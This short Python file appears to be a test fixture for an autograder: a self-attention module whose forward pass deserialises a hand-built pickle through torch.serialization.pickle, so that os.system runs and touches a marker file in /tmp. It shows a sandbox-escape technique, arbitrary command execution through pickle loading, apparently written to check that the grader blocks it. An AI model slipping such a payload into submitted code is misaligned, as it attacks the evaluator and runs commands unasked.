"""A deeper path to pickle (torch.serialization.pickle): a pickle that runs os.system when loaded."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        payload = b"cos\nsystem\n(S'touch /tmp/autograder-pwned-escape_deep_pickle'\ntR."
        torch.serialization.pickle.loads(payload)
        return embedded
